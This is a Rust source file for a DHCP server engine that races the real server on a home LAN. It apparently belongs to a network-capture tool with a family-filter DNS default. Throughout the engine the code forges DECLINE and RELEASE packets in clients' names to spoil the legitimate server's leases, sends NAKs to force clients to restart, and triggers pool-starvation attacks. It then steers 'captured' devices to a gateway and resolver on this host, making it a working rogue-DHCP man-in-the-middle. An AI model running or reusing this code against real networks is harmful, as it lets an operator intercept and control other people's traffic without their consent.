//! DHCPv4 server engine
//!
//! Serves two subnets and races the legitimate server. net1 mirrors the real
//! gateway; captured MACs are steered to net2, whose gateway and resolver
//! point at this host.

use super::lease::{self, LeaseState, LeaseTable};
use super::packet::{
    self, encode_reply, Dhcp4, DhcpOptions, MessageType, OptionCode, OptionMap, CLIENT_PORT,
    SERVER_PORT,
};
use super::subnet::{Subnet, SubnetConfig, SubnetId};
use ipnetwork::Ipv4Network;
use parking_lot::{Mutex, RwLock};
use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::SystemTime;
use tokio::sync::broadcast;
use tracing::{debug, info, warn};
use weir_core::{Error, HuntStage, MacAddr, Result};
use weir_packet::{ethernet, ip, ipproto, udp, BufferPool};
use weir_session::{Frame, PayloadId, Session};

/// Cloudflare family resolver (malware and adult filtering); default DNS for
/// redirected clients.
pub const FAMILY_DNS: Ipv4Addr = Ipv4Addr::new(1, 1, 1, 3);

/// Operational mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Mode {
    /// The only DHCP server on the LAN; never attacks
    Primary,
    /// Secondary server attacking every client
    SecondaryServer,
    /// Secondary server attacking captured clients only
    SecondaryServerNice,
}

/// Engine configuration.
#[derive(Debug, Clone)]
pub struct Dhcp4Config {
    /// The redirected subnet: its address is this host's gateway address for
    /// captured clients, its network becomes net2's LAN
    pub netfilter: Ipv4Network,
    /// DNS handed to net1 clients; the real router when None
    pub dns_server: Option<Ipv4Addr>,
    /// DNS handed to net2 (captured) clients; a family-filter resolver when None
    pub redirected_dns: Option<Ipv4Addr>,
    /// Lease persistence file
    pub filename: PathBuf,
    pub mode: Mode,
    /// Lease duration override in seconds
    pub lease_secs: Option<u64>,
    /// Explicit net1 pool bounds
    pub net1_range: Option<(Ipv4Addr, Ipv4Addr)>,
    /// Explicit net2 pool bounds
    pub net2_range: Option<(Ipv4Addr, Ipv4Addr)>,
}

impl Dhcp4Config {
    pub fn new(netfilter: Ipv4Network, filename: impl Into<PathBuf>) -> Self {
        Self {
            netfilter,
            dns_server: None,
            redirected_dns: None,
            filename: filename.into(),
            mode: Mode::SecondaryServerNice,
            lease_secs: None,
            net1_range: None,
            net2_range: None,
        }
    }
}

pub(crate) struct State {
    pub net1: Subnet,
    pub net2: Subnet,
    pub table: LeaseTable,
}

/// What a handler wants sent back to the client.
struct Reply {
    mtype: MessageType,
    yiaddr: Ipv4Addr,
    options: OptionMap,
}

/// Which REQUEST flavour the client is in (RFC 2131 §4.3.2).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum RequestKind {
    Selecting,
    Renewing,
    Rebinding,
    Rebooting,
}

/// The DHCPv4 engine.
pub struct Dhcp4Engine {
    session: Arc<Session>,
    pool: BufferPool,
    filename: PathBuf,
    mode: RwLock<Mode>,
    pub(crate) state: Mutex<State>,
    pub(crate) next_attack: Mutex<SystemTime>,
    pub(crate) shutdown: broadcast::Sender<()>,
}

impl Dhcp4Engine {
    /// Build the two subnets, load (or reset) the lease file and return the
    /// engine.
    pub fn new(
        session: Arc<Session>,
        config: Dhcp4Config,
        shutdown: broadcast::Sender<()>,
    ) -> Result<Arc<Self>> {
        let nic = session.nic();

        // net2 must be a proper slice of the home LAN
        if !nic.home_lan4.contains(config.netfilter.ip())
            || config.netfilter.prefix() <= nic.home_lan4.prefix()
        {
            return Err(Error::InvalidIp(format!(
                "redirected subnet {} does not nest inside {}",
                config.netfilter, nic.home_lan4
            )));
        }

        let net1_config = SubnetConfig {
            lan: nic.home_lan4,
            default_gw: nic.router_addr4(),
            dhcp_server: nic.host_addr4(),
            dns_server: config.dns_server.unwrap_or_else(|| nic.router_addr4()),
            first_ip: config.net1_range.map(|r| r.0),
            last_ip: config.net1_range.map(|r| r.1),
            lease_secs: config.lease_secs,
        };
        let net2_lan = Ipv4Network::new(config.netfilter.network(), config.netfilter.prefix())
            .map_err(|e| Error::InvalidIp4(e.to_string()))?;
        let net2_config = SubnetConfig {
            lan: net2_lan,
            default_gw: config.netfilter.ip(),
            dhcp_server: nic.host_addr4(),
            dns_server: config.redirected_dns.unwrap_or(FAMILY_DNS),
            first_ip: config.net2_range.map(|r| r.0),
            last_ip: config.net2_range.map(|r| r.1),
            lease_secs: config.lease_secs,
        };

        let net1 = Subnet::new(SubnetId::Net1, net1_config.clone(), HuntStage::Normal)?;
        let mut net2 = Subnet::new(SubnetId::Net2, net2_config.clone(), HuntStage::Redirected)?;

        // captured clients route the home LAN back through this host
        let home_route = Ipv4Network::new(net1_config.default_gw, net1_config.lan.prefix())
            .map_err(|e| Error::InvalidIp4(e.to_string()))?;
        net2.append_route_options(home_route, net2_config.default_gw);

        let table = match lease::load(&config.filename, &net1_config, &net2_config) {
            Some(table) => table,
            None => {
                info!(file = %config.filename.display(), "dhcp lease file missing or stale, starting fresh");
                LeaseTable::new()
            }
        };

        let engine = Arc::new(Self {
            session,
            pool: BufferPool::default(),
            filename: config.filename,
            mode: RwLock::new(config.mode),
            state: Mutex::new(State { net1, net2, table }),
            next_attack: Mutex::new(SystemTime::UNIX_EPOCH),
            shutdown,
        });
        engine.save_locked(&engine.state.lock());
        Ok(engine)
    }

    pub fn session(&self) -> &Arc<Session> {
        &self.session
    }

    pub fn mode(&self) -> Mode {
        *self.mode.read()
    }

    pub fn set_mode(&self, mode: Mode) {
        *self.mode.write() = mode;
    }

    /// True when the current mode attacks this client.
    fn attacks(&self, captured: bool) -> bool {
        match self.mode() {
            Mode::Primary => false,
            Mode::SecondaryServer => true,
            Mode::SecondaryServerNice => captured,
        }
    }

    /// Number of leases currently in the table.
    pub fn lease_count(&self) -> usize {
        self.state.lock().table.len()
    }

    /// Run `f` against the lease table.
    pub fn with_table<R>(&self, f: impl FnOnce(&LeaseTable) -> R) -> R {
        f(&self.state.lock().table)
    }

    pub(crate) fn save_locked(&self, state: &State) {
        if let Err(err) = lease::save(
            &self.filename,
            &state.net1.config,
            &state.net2.config,
            &state.table,
        ) {
            warn!(file = %self.filename.display(), error = %err, "dhcp lease save failed");
        }
    }

    /// Handle one ingress DHCP frame. Server-port traffic drives the lease
    /// state machine; client-port traffic is scanned for foreign offers.
    pub fn process_frame(self: &Arc<Self>, frame: &Frame<'_>) -> Result<()> {
        let dhcp_buf = frame.payload();
        let dhcp = match Dhcp4::new(dhcp_buf) {
            Ok(p) => p,
            Err(err) => {
                self.session.stats().record_err(PayloadId::Dhcp4);
                return Err(err);
            }
        };

        if frame.dst_addr.port == CLIENT_PORT {
            return self.process_client_frame(&dhcp);
        }

        let options = match dhcp.options() {
            Ok(o) => o,
            Err(err) => {
                self.session.stats().record_err(PayloadId::Dhcp4);
                return Err(err);
            }
        };
        let mtype = match options.message_type() {
            Some(t) => t,
            None => {
                self.session.stats().record_err(PayloadId::Dhcp4);
                return Err(Error::parse("dhcp missing message type"));
            }
        };
        let sender_ip = frame.src_addr.ipv4().unwrap_or(Ipv4Addr::UNSPECIFIED);

        let reply = {
            let mut state = self.state.lock();
            match mtype {
                MessageType::Discover => self.handle_discover(&mut state, &dhcp, &options),
                MessageType::Request => self.handle_request(&mut state, &dhcp, &options, sender_ip),
                MessageType::Decline => self.handle_decline(&mut state, &dhcp, &options),
                MessageType::Release => self.handle_release(&mut state, &dhcp, &options),
                MessageType::Offer => {
                    warn!("dhcp offer seen on server port");
                    None
                }
                other => {
                    debug!(mtype = %other, "dhcp message type not served");
                    None
                }
            }
        };

        if let Some(reply) = reply {
            self.send_reply(frame, &dhcp, &options, &reply)?;
        }
        Ok(())
    }

    /// DISCOVER: pick the subnet by capture flag, allocate or refresh the
    /// offer, answer with OFFER.
    fn handle_discover(
        self: &Arc<Self>,
        state: &mut State,
        dhcp: &Dhcp4<'_>,
        options: &DhcpOptions<'_>,
    ) -> Option<Reply> {
        let chaddr = dhcp.chaddr();
        let captured = self.session.is_captured(chaddr);
        let cid = packet::client_id(dhcp, options);
        let name = options.host_name();

        // drain the real server's pool while we race it
        if self.attacks(captured) {
            self.maybe_attack_server();
        }

        let State { net1, net2, table } = state;
        let (subnet, subnet_id) = if captured {
            (net2, SubnetId::Net2)
        } else {
            (net1, SubnetId::Net1)
        };

        let in_use = table.in_use(subnet_id);
        let reuse = table.get(&cid).and_then(|l| {
            if l.subnet != subnet_id {
                return None;
            }
            match l.state {
                LeaseState::Discover => l.ip_offer,
                LeaseState::Allocated => l.ip.filter(|ip| subnet.contains(*ip)),
                LeaseState::Free => None,
            }
        });
        let offer = match reuse.or_else(|| subnet.next_free(&in_use)) {
            Some(ip) => ip,
            None => {
                warn!(subnet = ?subnet_id, "dhcp pool exhausted, no offer");
                return None;
            }
        };

        let lease = table.find_or_create(&cid, chaddr, subnet_id);
        lease.mac = chaddr;
        lease.subnet = subnet_id;
        lease.state = LeaseState::Discover;
        lease.ip = None;
        lease.ip_offer = Some(offer);
        lease.xid = dhcp.xid();
        if let Some(name) = &name {
            lease.name = name.clone();
        }
        info!(xid = dhcp.xid(), mac = %chaddr, ip = %offer, subnet = ?subnet_id, "dhcp offer");

        self.session.set_ip4_offer(chaddr, offer);
        self.save_locked(state);

        let subnet = match subnet_id {
            SubnetId::Net1 => &state.net1,
            SubnetId::Net2 => &state.net2,
        };
        let mut reply_options = subnet.options();
        reply_options.insert(
            OptionCode::LEASE_TIME,
            (subnet.duration().as_secs() as u32).to_be_bytes().to_vec(),
        );
        Some(Reply {
            mtype: MessageType::Offer,
            yiaddr: offer,
            options: reply_options,
        })
    }

    /// REQUEST: selecting / renewing / rebinding / rebooting, per the RFC
    /// decision table; NAKs and forged DECLINEs on the attack paths.
    fn handle_request(
        self: &Arc<Self>,
        state: &mut State,
        dhcp: &Dhcp4<'_>,
        options: &DhcpOptions<'_>,
        sender_ip: Ipv4Addr,
    ) -> Option<Reply> {
        let chaddr = dhcp.chaddr();
        let captured = self.session.is_captured(chaddr);
        let cid = packet::client_id(dhcp, options);
        let name = options.host_name();
        let now = SystemTime::now();

        let mut req_ip = options.requested_ip().unwrap_or(Ipv4Addr::UNSPECIFIED);
        let server_id = options.server_id().unwrap_or(Ipv4Addr::UNSPECIFIED);

        // ---------------------------------------------------------------------
        // |              |INIT-REBOOT  |SELECTING    |RENEWING     |REBINDING |
        // |server-id     |MUST NOT     |MUST         |MUST NOT     |MUST NOT  |
        // |requested-ip  |MUST         |MUST         |MUST NOT     |MUST NOT  |
        // |ciaddr        |zero         |zero         |IP address   |IP address|
        // ---------------------------------------------------------------------
        let kind = if !server_id.is_unspecified() {
            RequestKind::Selecting
        } else if req_ip.is_unspecified() && sender_ip != Ipv4Addr::BROADCAST {
            req_ip = dhcp.ciaddr();
            RequestKind::Renewing
        } else if req_ip.is_unspecified() {
            req_ip = dhcp.ciaddr();
            RequestKind::Rebinding
        } else {
            RequestKind::Rebooting
        };

        if req_ip.is_unspecified() {
            warn!(xid = dhcp.xid(), mac = %chaddr, "dhcp request without an address");
            return None;
        }
        debug!(xid = dhcp.xid(), mac = %chaddr, ip = %req_ip, kind = ?kind, "dhcp request");

        let State { net1, net2, table } = state;
        let (subnet, subnet_id) = if captured {
            (&*net2, SubnetId::Net2)
        } else {
            (&*net1, SubnetId::Net1)
        };
        let server = subnet.config.dhcp_server;

        match kind {
            RequestKind::Selecting => {
                if server_id != server {
                    // the client chose another server; keep a pending
                    // discover, drop anything else we held
                    if let Some(lease) = table.get_mut(&cid) {
                        if lease.state != LeaseState::Discover {
                            lease.free();
                        }
                    }
                    if self.attacks(captured) {
                        info!(xid = dhcp.xid(), server = %server_id, "dhcp nak, select is for another server");
                        return Some(nak(server, &cid));
                    }
                    // almost always a new host binding worth recording
                    self.session.dhcpv4_update(chaddr, req_ip, name.as_deref());
                    debug!(xid = dhcp.xid(), server = %server_id, "dhcp ignoring select for another server");
                    return None;
                }

                let valid = table.get(&cid).is_some_and(|lease| {
                    lease.mac == chaddr
                        && match lease.state {
                            LeaseState::Discover => {
                                lease.xid == dhcp.xid() && lease.ip_offer == Some(req_ip)
                            }
                            // duplicate selects for a held address pass
                            LeaseState::Allocated => lease.ip == Some(req_ip),
                            LeaseState::Free => false,
                        }
                });
                if !valid {
                    info!(xid = dhcp.xid(), ip = %req_ip, "dhcp nak, select with invalid parameters");
                    return Some(nak(server, &cid));
                }
            }

            RequestKind::Renewing => {
                // renewals arrive unicast from clients we allocated earlier
                let valid = table.get(&cid).is_some_and(|lease| {
                    lease.state == LeaseState::Allocated
                        && lease.ip == Some(req_ip)
                        && lease.mac == chaddr
                        && lease.expiry > now
                });
                if !valid {
                    info!(xid = dhcp.xid(), ip = %req_ip, "dhcp nak, renew of invalid or expired lease");
                    return Some(nak(server, &cid));
                }
            }

            RequestKind::Rebooting | RequestKind::Rebinding => {
                // the client is rejoining and claiming its old address;
                // no discover preceded this
                self.session.dhcpv4_update(chaddr, req_ip, name.as_deref());

                let lease_state = table.get(&cid).map(|l| l.state).unwrap_or(LeaseState::Free);
                if lease_state == LeaseState::Free {
                    info!(xid = dhcp.xid(), ip = %req_ip, "dhcp reboot without a lease");
                    if self.attacks(captured) {
                        // shake the real server's binding loose, then NAK so
                        // the client restarts with DISCOVER. DECLINE rather
                        // than RELEASE: a released entry can be re-acked
                        // silently, a declined one cannot.
                        let gw = net1.config.default_gw;
                        self.force_decline(cid.clone(), gw, chaddr, req_ip, Some(dhcp.xid()));
                        return Some(nak(gw, &cid));
                    }
                }

                let valid = table.get(&cid).is_some_and(|lease| {
                    lease.state == LeaseState::Allocated
                        && lease.ip == Some(req_ip)
                        && lease.mac == chaddr
                        && subnet.contains(req_ip)
                });
                if !valid {
                    info!(xid = dhcp.xid(), ip = %req_ip, kind = ?kind, "dhcp nak, reboot mismatch");
                    if self.attacks(captured) {
                        let gw = net1.config.default_gw;
                        self.force_decline(cid.clone(), gw, chaddr, req_ip, Some(dhcp.xid()));
                    }
                    return Some(nak(server, &cid));
                }
            }
        }

        // successful request
        let duration = subnet.duration();
        let stage = subnet.stage;
        let lease = table.get_mut(&cid)?;
        if lease.state == LeaseState::Discover {
            lease.ip = lease.ip_offer.take();
        }
        lease.state = LeaseState::Allocated;
        lease.expiry = now + duration;
        lease.count = 0;
        if let Some(name) = &name {
            lease.name = name.clone();
        }
        let yiaddr = lease.ip?;
        let host_name = match &name {
            Some(n) => Some(n.clone()),
            None if !lease.name.is_empty() => Some(lease.name.clone()),
            None => None,
        };
        info!(xid = dhcp.xid(), mac = %chaddr, ip = %yiaddr, kind = ?kind, "dhcp ack");

        self.save_locked(state);

        let host = self.session.dhcpv4_update(chaddr, yiaddr, host_name.as_deref());
        host.row_mut().dhcp4_stage = match stage {
            HuntStage::Redirected => HuntStage::Redirected,
            _ => HuntStage::Normal,
        };

        let subnet = match subnet_id {
            SubnetId::Net1 => &state.net1,
            SubnetId::Net2 => &state.net2,
        };
        let mut reply_options = subnet.options();
        reply_options.insert(
            OptionCode::LEASE_TIME,
            (duration.as_secs() as u32).to_be_bytes().to_vec(),
        );
        Some(Reply {
            mtype: MessageType::Ack,
            yiaddr,
            options: reply_options,
        })
    }

    /// DECLINE: the client rejects the address we handed out; free it.
    ///
    /// -------------------------------------------
    /// |              |DECLINE      |RELEASE      |
    /// |broad/unicast |broadcast    |unicast      |
    /// |server-id     |MUST         |MUST         |
    /// |requested-ip  |MUST         |MUST NOT     |
    /// |ciaddr        |zero         |IP address   |
    /// -------------------------------------------
    fn handle_decline(
        &self,
        state: &mut State,
        dhcp: &Dhcp4<'_>,
        options: &DhcpOptions<'_>,
    ) -> Option<Reply> {
        let chaddr = dhcp.chaddr();
        let cid = packet::client_id(dhcp, options);
        let req_ip = options.requested_ip();
        let server_ip = options.server_id();

        let captured = self.session.is_captured(chaddr);
        let server = if captured {
            state.net2.config.dhcp_server
        } else {
            state.net1.config.dhcp_server
        };

        let valid = server_ip == Some(server)
            && state
                .table
                .get(&cid)
                .is_some_and(|l| l.ip.is_some() && l.ip == req_ip && l.mac == chaddr);
        if !valid {
            info!(xid = dhcp.xid(), mac = %chaddr, server = ?server_ip, ip = ?req_ip,
                "dhcp decline ignored, invalid packet");
            return None;
        }

        info!(xid = dhcp.xid(), mac = %chaddr, ip = ?req_ip, "dhcp decline");
        if let Some(lease) = state.table.get_mut(&cid) {
            lease.free();
        }
        self.save_locked(state);
        None
    }

    /// RELEASE: the client is done with its address; free it.
    fn handle_release(
        &self,
        state: &mut State,
        dhcp: &Dhcp4<'_>,
        options: &DhcpOptions<'_>,
    ) -> Option<Reply> {
        let chaddr = dhcp.chaddr();
        let cid = packet::client_id(dhcp, options);
        let req_ip = dhcp.ciaddr();
        let server_ip = options.server_id();

        let captured = self.session.is_captured(chaddr);
        let server = if captured {
            state.net2.config.dhcp_server
        } else {
            state.net1.config.dhcp_server
        };

        let valid = server_ip == Some(server)
            && state
                .table
                .get(&cid)
                .is_some_and(|l| l.ip == Some(req_ip));
        if !valid {
            info!(xid = dhcp.xid(), mac = %chaddr, server = ?server_ip, ip = %req_ip,
                "dhcp release ignored, invalid packet");
            return None;
        }

        info!(xid = dhcp.xid(), mac = %chaddr, ip = %req_ip, "dhcp release");
        if let Some(lease) = state.table.get_mut(&cid) {
            lease.free();
        }
        self.save_locked(state);
        None
    }

    /// Traffic to the client port: watch for OFFERs from competing servers
    /// and forge a DECLINE so their pool entry goes bad.
    fn process_client_frame(self: &Arc<Self>, dhcp: &Dhcp4<'_>) -> Result<()> {
        let options = dhcp.options()?;
        let chaddr = dhcp.chaddr();

        let server_ip = match options.server_id() {
            Some(ip) if !ip.is_unspecified() => ip,
            _ => {
                return Err(Error::parse("dhcp client packet without server id"));
            }
        };

        // one of our own starvation probes coming back
        if chaddr.as_bytes()[..4] == super::attack::FAKE_MAC_PREFIX {
            return Ok(());
        }

        // our own replies loop back through the capture socket
        {
            let state = self.state.lock();
            if server_ip == state.net1.config.dhcp_server
                || server_ip == state.net2.config.dhcp_server
            {
                return Ok(());
            }
        }

        if options.message_type() != Some(MessageType::Offer) {
            return Ok(());
        }

        info!(xid = dhcp.xid(), server = %server_ip, ip = %dhcp.yiaddr(),
            "dhcp offer from another server");

        if self.attacks(self.session.is_captured(chaddr)) {
            let cid = packet::client_id(dhcp, &options);
            self.force_decline(cid, server_ip, chaddr, dhcp.yiaddr(), Some(dhcp.xid()));
        }
        Ok(())
    }

    /// Build and send a server reply. Broadcast when the client has no
    /// address yet or asked for it; unicast otherwise.
    fn send_reply(
        &self,
        frame: &Frame<'_>,
        dhcp: &Dhcp4<'_>,
        options: &DhcpOptions<'_>,
        reply: &Reply,
    ) -> Result<()> {
        let nic = self.session.nic();
        let sender_ip = frame.src_addr.ipv4().unwrap_or(Ipv4Addr::UNSPECIFIED);

        let (dst_mac, dst_ip) = if sender_ip.is_unspecified() || dhcp.broadcast() {
            (MacAddr::broadcast(), Ipv4Addr::BROADCAST)
        } else {
            (frame.src_addr.mac, sender_ip)
        };

        debug!(mac = %dst_mac, ip = %dst_ip, mtype = %reply.mtype, "dhcp send reply");
        self.send_dhcp_frame(
            (nic.host_mac, nic.host_addr4(), SERVER_PORT),
            (dst_mac, dst_ip, CLIENT_PORT),
            |buf| {
                encode_reply(
                    buf,
                    dhcp,
                    reply.mtype,
                    reply.yiaddr,
                    &reply.options,
                    options.parameter_request_list(),
                )
            },
        )
    }

    /// Encode ether/ip/udp around a DHCP payload written by `build`, and put
    /// the frame on the wire.
    pub(crate) fn send_dhcp_frame(
        &self,
        src: (MacAddr, Ipv4Addr, u16),
        dst: (MacAddr, Ipv4Addr, u16),
        build: impl FnOnce(&mut [u8]) -> Result<usize>,
    ) -> Result<()> {
        const IP_OFF: usize = ethernet::HEADER_LEN;
        const UDP_OFF: usize = IP_OFF + ip::IP4_HEADER_LEN;
        const DHCP_OFF: usize = UDP_OFF + udp::UDP_HEADER_LEN;

        let mut b = self.pool.get();
        let buf = b.as_mut_slice();
        ethernet::encode(buf, ethernet::ETHERTYPE_IPV4, src.0, dst.0)?;
        ip::encode(&mut buf[IP_OFF..], 64, src.1, dst.1)?;
        udp::encode(&mut buf[UDP_OFF..], src.2, dst.2)?;
        let dhcp_len = build(&mut buf[DHCP_OFF..])?;
        let udp_total = udp::set_payload(&mut buf[UDP_OFF..], dhcp_len)?;
        let ip_total = ip::set_payload(&mut buf[IP_OFF..], udp_total, ipproto::UDP)?;
        self.session
            .socket()
            .send(&b.as_slice()[..IP_OFF + ip_total])?;
        Ok(())
    }

    /// Transition expired leases to Free. Called by the minute ticker.
    pub fn free_expired(&self, now: SystemTime) {
        let mut state = self.state.lock();
        if state.table.expire(now) > 0 {
            self.save_locked(&state);
        }
    }

    /// Capture is starting for `ip`: if the client still holds a normal-net
    /// lease, forge a RELEASE to the real server so the client is forced
    /// back through DISCOVER, where it will be steered to net2.
    pub fn start_hunt(self: &Arc<Self>, ip: Ipv4Addr) -> Result<()> {
        let state = self.state.lock();
        let lease = match state.table.find_by_ip(ip) {
            Some(l) => l,
            None => return Ok(()),
        };
        if lease.subnet != SubnetId::Net2 && self.mode() != Mode::Primary {
            debug!(ip = %ip, "dhcp hunt, forcing release at real server");
            self.force_release(
                lease.client_id.clone(),
                state.net1.config.default_gw,
                lease.mac,
                ip,
                None,
            );
        }
        Ok(())
    }

    /// Capture is ending for `ip`. The lease stays; the next DISCOVER simply
    /// lands back on net1.
    pub fn stop_hunt(&self, ip: Ipv4Addr) -> Result<()> {
        debug!(ip = %ip, "dhcp stop hunt");
        Ok(())
    }
}

/// A NAK carrying our server identity.
fn nak(server_id: Ipv4Addr, client_id: &[u8]) -> Reply {
    let mut options = OptionMap::new();
    options.insert(OptionCode::SERVER_ID, server_id.octets().to_vec());
    options.insert(OptionCode::CLIENT_ID, client_id.to_vec());
    Reply {
        mtype: MessageType::Nak,
        yiaddr: Ipv4Addr::UNSPECIFIED,
        options,
    }
}
